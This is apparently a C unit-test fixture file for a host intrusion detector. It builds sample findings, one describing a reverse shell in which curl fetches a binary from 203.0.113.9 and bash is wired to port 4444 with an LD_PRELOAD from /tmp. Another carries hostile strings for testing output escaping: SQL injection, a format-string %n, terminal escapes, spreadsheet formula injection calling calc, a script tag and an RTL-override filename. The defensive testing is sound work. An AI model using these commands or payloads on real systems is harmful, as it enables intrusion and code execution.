/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "unit/sample.h"

#include "base/compiler.h"

/* Of an array that ends in NULL. */
#define ARGV(list) \
	.argv = (list), .argc = ARRAY_SIZE(list) - 1, .argc_total = ARRAY_SIZE(list) - 1

static const char *const nginx_argv[] = { "nginx", NULL };
static const char *const curl_argv[] = { "curl", "-o", "/tmp/x", "http://203.0.113.9/x",
					 NULL };
static const char *const bash_argv[] = { "bash", "-i", NULL };
static const char *const hostile_argv[] = {
	"",
	"a\nb",
	"'; DROP TABLE findings; --",
	"\"}{[\\",
	"\\x41\\x4",
	"%s%n",
	"\xc0\xaf\xed\xa0\x80",
	"\xe2\x80\x8b\xc2\x85",
	"\xe6\x97\xa5\xe6\x9c\xac",
	NULL,
};

/* 2026-11-21T23:25:58.915Z */
static const stamp_ms when = 1795303558915;

static const char *const bash_env[] = { "LD_PRELOAD=/tmp/.x.so", NULL };
static const int stdio_fds[] = { 0, 1, 2 };

struct finding *sample_shell(void)
{
	static const struct finding_process nginx = {
		.uid = "p-800",
		.pid = 800,
		.ppid = 1,
		.exe = "/usr/sbin/nginx",
		ARGV(nginx_argv),
		.observed = true,
		.user_id = 33,
		.auid = AUDIT_ID_UNSET,
		.ses = AUDIT_ID_UNSET,
	};
	static const struct finding_process first = { .uid = "p-1", .pid = 1 };
	static const struct finding_process *const ancestry[] = { &nginx, &first };
	static const struct finding_process curl = {
		.uid = "p-790",
		.pid = 790,
		.ppid = 788,
		.exe = "/usr/bin/curl",
		ARGV(curl_argv),
		.observed = true,
		.user_id = 33,
		.auid = AUDIT_ID_UNSET,
		.ses = AUDIT_ID_UNSET,
	};
	static const struct finding_process bash = {
		.uid = "p-812",
		.pid = 812,
		.ppid = 800,
		.exe = "/usr/bin/bash",
		.comm = "bash",
		ARGV(bash_argv),
		.cwd = "/srv",
		.tty = "(none)",
		.uid_name = "www-data",
		.user_id = 33,
		.auid = AUDIT_ID_UNSET,
		.ses = AUDIT_ID_UNSET,
		.started = 1795303558900,
		.observed = true,
		.env = bash_env,
		.nenv = 1,
	};
	static const struct finding_target target = {
		.path = "/tmp/x",
		.kind = "binary",
		.sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b8"
			  "55",
		.how = "not in the manifest",
		.writer = &curl,
		.origin = "http://203.0.113.9/x",
	};
	static const struct finding_network network = {
		.direction = "outbound",
		.family = "inet",
		.remote_addr = "203.0.113.9",
		.remote_port = 4444,
		.local_port = -1,
		.mechanism = "dup",
		.fds = stdio_fds,
		.nfds = 3,
	};
	static const struct finding_container container = {
		.id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
		.name = "web",
		.image = "registry/web:1.4",
		.image_digest = "sha256:aa",
		.pod = "web-7c9",
		.ns = "shop",
		.runtime = "containerd",
		.via = "exec",
	};
	static const struct finding_evidence evidence[] = {
		{ { "node1", 1795303558910, 325 },
		  "connect 203.0.113.9:4444",
		  "type=SYSCALL msg=audit(1795303558.910:325): syscall=42\n"
		  "type=SOCKADDR msg=audit(1795303558.910:325): saddr=0200115CCB0071090000000000000000" },
		{ { "node1", 1795303558915, 326 }, "dup2 3 -> 0", NULL },
	};
	struct finding *f = finding_new(DETECT_REVERSE_SHELL);

	f->uid = "11112222333344445555666677778888";
	f->first_seen = when;
	f->last_seen = when + 1000;
	f->host = "node1";
	f->confirmed = "fds 0, 1 and 2 were that connection while it ran";
	f->summary = "bash (pid 812) reads its input from and writes its output to "
		     "203.0.113.9:4444";
	f->process = &bash;
	f->ancestry = ancestry;
	f->nancestry = 2;
	f->target = &target;
	f->network = &network;
	f->container = &container;
	f->manifest = "registry/web:1.4";
	f->evidence = evidence;
	f->nevidence = 2;
	return f;
}

struct finding *sample_hostile(void)
{
	static const struct finding_process process = {
		.uid = "p-\x1b[2J",
		.pid = 4194304,
		.ppid = 0,
		.exe = "/tmp/\x1b]0;owned\x07\x9b"
		       "31m\xff\xfe",
		.comm = "\xe2\x80\xae"
			"txt.exe",
		ARGV(hostile_argv),
		.cwd = "=cmd|' /C calc'!A0",
		.tty = "pts\r0",
		.uid_name = "<script>alert(1)</script>",
		.user_id = 0,
		.auid = 1000,
		.ses = 3,
		.started = 1,
		.observed = true,
	};
	static const struct finding_target target = {
		.path = "/tmp/a\nb\tc\\x0a",
		.kind = "binary",
	};
	static const struct finding_evidence evidence[] = {
		{ { NULL, 1795303558915, 4294967295u },
		  "execve /tmp/a\nb",
		  "type=EXECVE a0=\"\x1b\"\nsecond \x1dUID=\"root\"\n" },
	};
	struct finding *f = finding_new(DETECT_ADDED_BINARY_EXECUTED);

	f->uid = "ffffffffffffffffffffffffffffffff";
	f->severity = SEV_HIGH;
	f->confidence = CONF_LOW;
	f->first_seen = when;
	f->last_seen = when;
	f->count = 7;
	f->host = "node\x1b[31m";
	f->summary = "=HYPERLINK(\"http://evil\") /tmp/a\nb ran\xff";
	f->caveat = "the write of \\x41 was not seen";
	f->process = &process;
	f->target = &target;
	f->evidence = evidence;
	f->nevidence = 1;
	return f;
}

struct finding *sample_bare(void)
{
	struct finding *f = finding_new(DETECT_DELETED_BINARY_EXECUTED);

	f->uid = "00000000000000000000000000000000";
	return f;
}
